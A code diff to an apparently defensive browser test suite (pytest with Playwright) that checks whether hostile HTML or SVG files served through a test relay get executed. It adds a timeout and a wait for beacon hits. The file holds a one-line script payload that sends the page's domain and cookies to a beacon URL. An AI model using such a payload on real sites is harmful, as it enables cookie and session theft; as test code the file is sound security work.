@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Error, Page
 
+from tests.browser.conftest import PATIENCE
 from tests.functions.relayed import Relayed, relayed
 
 SCRIPT = "new Image().src='{beacon}?'+document.domain+encodeURIComponent(document.cookie)"
@@ -48,6 +49,7 @@ def tab(chromium: Browser, relay: Relayed) -> Iterator[Page]:
     """A page of the run itself: the worst place, for what runs there acts as the agent."""
     context = chromium.new_context(accept_downloads=True)
     opened = context.new_page()
+    opened.set_default_timeout(PATIENCE)
     opened.goto(f"{relay.server.url}/page/nothing")
     yield opened
     context.close()
@@ -76,7 +78,7 @@ def test_it_would_run_if_it_came_from_anywhere_else(relay: Relayed, tab: Page, m
     claimed = "image/svg+xml" if markup == SVG else "text/html"
     relay.files.files["open"] = (_hostile(relay, markup), claimed)
     _open_in_every_way(tab, f"{relay.files.url}/files/open")
-    assert relay.files.beacons > 0
+    relay.server.wait_until(lambda: relay.files.beacons > 0)
 
 
 @pytest.mark.parametrize("claimed", TYPES)
